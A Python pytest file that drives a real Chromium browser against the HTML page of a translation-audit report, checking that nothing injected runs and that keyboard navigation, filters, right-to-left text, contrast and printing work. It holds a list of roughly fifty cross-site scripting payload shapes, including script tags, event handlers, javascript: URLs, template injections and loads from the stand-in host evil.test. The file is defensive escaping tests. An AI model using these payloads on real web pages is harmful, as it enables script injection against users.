"""The page in a real browser: nothing a text carries runs, and a keyboard reaches every finding."""

from __future__ import annotations

import shutil
from itertools import product

import pytest
import regex
import sample as made

from auditor.model import Failure, Gate, Report, ReportedDocument, ReportedUnit, Severity, Skip, Status
from auditor.report import FORMATS, Look, RulePage

CALLS = ("alert(1)", "window.pwned=1")
SHAPES = (
    "<script>{}</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    '"><script>{}</script>', "'><img src=x onerror={}>", "</style><script>{}</script>", "</script><script>{}</script>", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>", "<body onload={}>", "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>{}</script>'>", "<a href=javascript:{}>x</a>", "javascript:{}", "data:text/html,<script>{}</script>", "vbscript:{}",
    "<details open ontoggle={}>", "<video><source onerror={}>", "<audio src onerror={}>", "<input autofocus onfocus={}>", "<select onfocus={} autofocus>",
    "<marquee onstart={}>", "<object data=javascript:{}>", "<embed src=javascript:{}>", "<form action=javascript:{}><button>", "<isindex action=javascript:{}>",
    "<link rel=stylesheet href=//evil.test/x.css>{}", "<style>@import '//evil.test/x.css';</style>{}", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=//evil.test/>{}", "<math><mtext><script>{}</script>", "<template><script>{}</script></template>", '<noscript><p title="</noscript><img src=x onerror={}>">',
    '" onmouseover="{}" x="', "' onfocus='{}' autofocus='", "` onclick={} `", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
    "<scr\x00ipt>{}</scr\x00ipt>", "<img\nsrc=x\nonerror={}>", "<a href='java\tscript:{}'>x</a>", "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "{{% set x = {} %}}",
    "<\N{RIGHT-TO-LEFT OVERRIDE}script>{}</script>", "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}{}", '<p style="background:url(//evil.test/{})">', "<x id=panel-body onclick={}>",
    "<style>*{{background:url('//evil.test/{}')}}</style>", "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><use href='data:image/svg+xml,<svg onload={}>#x'>",
)  # fmt: skip
PAYLOADS = [shape.format(call) for shape, call in product(SHAPES, CALLS)]


def hostile() -> tuple[Report, Look]:
    """A report in which every field of every part is a payload."""
    documents, units, findings, manual = [], [], [], {}
    for number, payload in enumerate(PAYLOADS):
        home = f"{number}{payload}"
        unit = made.unit(f"u{number}{payload}", home, f"{payload} words", f"{payload} source", f"{payload} reference", f"{payload} back",
                         langs="es-en", field=payload if number % 2 else "headline")  # fmt: skip
        rule = f"{payload}"
        found = made.found(unit, rule, payload, payload, list(Severity)[number % 4], 0.5, payload, suggestion=payload,
                           status=list(Status)[number % 3], why=payload, evidence=((made.View.BACK, payload),))  # fmt: skip
        documents.append(
            ReportedDocument(
                home,
                payload,
                payload,
                payload,
                1,
                source_lang=payload,
                link=payload if number % 2 else f"https://x.test/{payload}",
            )
        )
        units += [ReportedUnit(unit, 50.0), ReportedUnit(made.unit(f"v{number}", home, payload, langs="es-en"), 60.0)]
        findings.append(found)
        manual[rule] = RulePage(rule, payload, payload, why=payload, languages=payload)
    skips = tuple(Skip(p, p, p, document=p) for p in PAYLOADS)
    failures = tuple(Failure(p, p, p) for p in PAYLOADS)
    gate = Gate(PAYLOADS[0], failed=True, reasons=tuple(PAYLOADS))
    counts = dict.fromkeys(PAYLOADS, 1)
    report = Report(
        PAYLOADS[1], PAYLOADS[2], tuple(documents), tuple(units), tuple(findings), skips, gate, failures, counts=counts
    )
    return report, Look(manual)


@pytest.fixture(scope="module")
def browser():
    playwright = pytest.importorskip("playwright.sync_api")
    chromium = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
    if chromium is None:
        pytest.skip("no Chromium on this machine: install one to try the page")
    with playwright.sync_playwright() as running:
        started = running.chromium.launch(
            executable_path=chromium, args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
        )
        yield started
        started.close()


@pytest.fixture
def opened(browser, tmp_path):
    """Opens a page of a report; everything the browser complains of or asks the network for is written down."""
    pages = []

    def open_(report, look=None, **kwargs):
        path = tmp_path / "report.html"
        path.write_text(FORMATS["html"](report, look or Look()), "utf-8", errors="strict")
        page = browser.new_context(**kwargs).new_page()
        page.trouble = []
        page.on("console", lambda message: page.trouble.append(message.text))
        page.on("pageerror", lambda error: page.trouble.append(str(error)))
        page.on("dialog", lambda dialog: (page.trouble.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("request", lambda request: request.url.startswith("file://") or page.trouble.append(request.url))
        page.add_init_script(
            "addEventListener('securitypolicyviolation', e => { window.violated = e.violatedDirective + ' ' + e.blockedURI })"
        )
        page.goto(path.as_uri())
        pages.append(page)
        return page

    yield open_
    for page in pages:
        page.context.close()


def test_nothing_runs(opened):
    report, look = hostile()
    assert len(PAYLOADS) >= 100
    page = opened(report, look, viewport={"width": 1200, "height": 900})
    page.click("#show-known")
    assert page.locator("#count").inner_text() == f"{len(PAYLOADS)} shown"
    for _ in PAYLOADS:
        page.keyboard.press("j")
    page.select_option("#by-rule", index=3)
    page.keyboard.press("s")
    assert page.evaluate("window.pwned") is None
    assert page.evaluate("window.violated") is None
    assert page.trouble == []
    assert page.evaluate("document.scripts.length") == 1
    assert (
        page.evaluate(
            "document.querySelectorAll('img, iframe, object, embed, form, base, link, video, audio, math, template').length"
        )
        == 0
    )
    hrefs = page.evaluate("[...document.querySelectorAll('a[href]')].map(a => a.getAttribute('href'))")
    assert all(regex.match(r"#[\w-]+$|https://x\.test/", href) for href in hrefs)


def test_marks_stand_on_the_quoted_words(opened, report, look):
    page = opened(report, look)
    words = page.locator(".t mark:not(.gap)").all_text_contents()
    for quote in ("Nigeria", "waving from", "Manual", "14", "did deny", "rained in buckets", "20 مليون", "مارس", "周四"):
        assert quote in words
    pieces = page.evaluate(
        """n => [...document.querySelectorAll('.t mark')].filter(m => m.dataset.f.split(' ').includes(n)).map(m => m.textContent)""",
        "9",
    )
    assert "".join(pieces) == "Corsair Eleven drones"
    assert page.trouble == []


def test_keyboard_goes_from_finding_to_finding(opened, report, look):
    page = opened(report, look, viewport={"width": 1200, "height": 900})
    panel, count = page.locator("#panel-body"), page.locator("#count")
    page.keyboard.press("j")
    assert page.evaluate("document.activeElement.textContent") == "Nigeria"
    assert "Níger" in panel.inner_text()
    page.keyboard.press("j")
    assert page.evaluate("document.activeElement.textContent") == "waving from"
    assert count.inner_text() == "2 of 17"
    page.keyboard.press("k")
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "panel-body"
    page.keyboard.press("Escape")
    assert page.evaluate("document.activeElement.textContent") == "Nigeria"
    assert panel.inner_text() == ""


def test_tab_reaches_marks_in_reading_order(opened, report, look):
    page = opened(report, look, viewport={"width": 1200, "height": 900})
    page.locator("#d1 summary").first.focus()
    page.keyboard.press("Tab")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "Nigeria"
    described = page.evaluate("document.getElementById(document.activeElement.getAttribute('aria-describedby')).textContent")
    assert "another country" in described


def test_filters_hide_what_they_say(opened, report, look):
    page = opened(report, look)
    page.click(".toggle[data-severity=major]")
    page.click(".toggle[data-severity=minor]")
    page.click(".toggle[data-severity=neutral]")
    assert page.locator("#count").inner_text() == "4 shown"
    assert page.locator(".t mark:not(.off)").all_text_contents() == ["Nigeria", "14", "did deny", "20 مليون"]
    page.select_option("#by-document", index=2)
    assert page.locator("section.document:visible").count() == 1
    assert page.locator("#count").inner_text() == "1 shown"


def test_source_stands_beside_the_translation(opened, report, look):
    page = opened(report, look, viewport={"width": 1400, "height": 900})
    assert not page.locator("#u1 .s").is_visible()
    page.click("#side-by-side")
    assert page.locator("#u1 .s").is_visible()
    left, right = page.locator("#u1 .t").bounding_box(), page.locator("#u1 .s").bounding_box()
    assert left["x"] + left["width"] <= right["x"]
    assert page.locator("#u8 .s mark").inner_text() == "Nadie resultó herido"


def test_arabic_runs_from_right_to_left(opened, report, look):
    page = opened(report, look)
    assert page.evaluate("getComputedStyle(document.querySelector('#u12').closest('.block')).direction") == "rtl"
    assert page.evaluate("getComputedStyle(document.querySelector('#u1').closest('.block')).direction") == "ltr"


@pytest.mark.parametrize("width", [320, 390, 800])
def test_a_narrow_screen_does_not_scroll_sideways(width, opened, report, look):
    page = opened(report, look, viewport={"width": width, "height": 800})
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    page.locator("mark.critical").first.click()
    assert page.locator("#panel").is_visible()
    page.keyboard.press("Escape")
    assert not page.locator("#panel").is_visible()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_can_be_told_from_its_ground(scheme, opened, report, look):
    page = opened(report, look, color_scheme=scheme)
    page.keyboard.press("j")
    low = page.evaluate(CONTRAST)
    assert low == []


CONTRAST = """() => {
  const rgb = c => (c.match(/[\\d.]+/g) || [0, 0, 0, 0]).map(Number);
  const light = c => { const [r, g, b] = rgb(c).map(v => v / 255).map(v => v <= .03928 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4); return .2126 * r + .7152 * g + .0722 * b; };
  const ground = e => { for (; e; e = e.parentElement) { const c = rgb(getComputedStyle(e).backgroundColor); if (c.length < 4 || c[3] > 0) return getComputedStyle(e).backgroundColor; } return 'rgb(255,255,255)'; };
  const low = [];
  for (const e of document.querySelectorAll('body *:not(script):not(style):not(svg *)')) {
    const own = [...e.childNodes].some(n => n.nodeType === 3 && n.textContent.trim());
    if (!own || !e.checkVisibility()) continue;
    const [a, b] = [light(getComputedStyle(e).color), light(ground(e))].sort((x, y) => y - x);
    if ((a + .05) / (b + .05) < 4.5) low.push([e.tagName + '.' + e.className, e.textContent.slice(0, 20), ((a + .05) / (b + .05)).toFixed(2)]);
  }
  return low;
}"""


def test_the_page_prints_every_reason(opened, report, look):
    page = opened(report, look)
    page.evaluate("dispatchEvent(new Event('beforeprint'))")
    page.emulate_media(media="print")
    assert page.locator("#f1 .why").is_visible()
    assert not page.locator("#panel").is_visible()
    assert page.pdf().startswith(b"%PDF")


def test_without_scripts_everything_is_still_there(opened, report, look):
    page = opened(report, look, java_script_enabled=False)
    assert page.locator("mark").first.is_visible()
    page.locator("details.cards summary").first.click()
    assert page.locator("#f1 .why").is_visible()
    assert not page.locator(".bar").is_visible()


def test_large_reports_leave_clean_passages_out():
    units = [made.unit(f"u{n}", f"d{n // 100}", f"Sentence {n} says wrong things.", block=n) for n in range(3000)]
    found = [
        made.found(units[n], "terms/missing", "wrong", "terminology/wrong-term", Severity.MAJOR, 0.9, "Not this word.")
        for n in (50, 2050)
    ]
    documents = tuple(ReportedDocument(f"d{n}", f"{n}.xml", f"Title {n}", "en", 100) for n in range(30))
    page = FORMATS["html"](Report("0", "s", documents, tuple(ReportedUnit(u, 90.0) for u in units), tuple(found), ()))
    assert len(page) < 400_000
    assert page.count('class="unit"') == 10
    assert "48 passages without findings not shown" in page
    assert len(regex.findall(r'<details class="fold"', page)) == 2
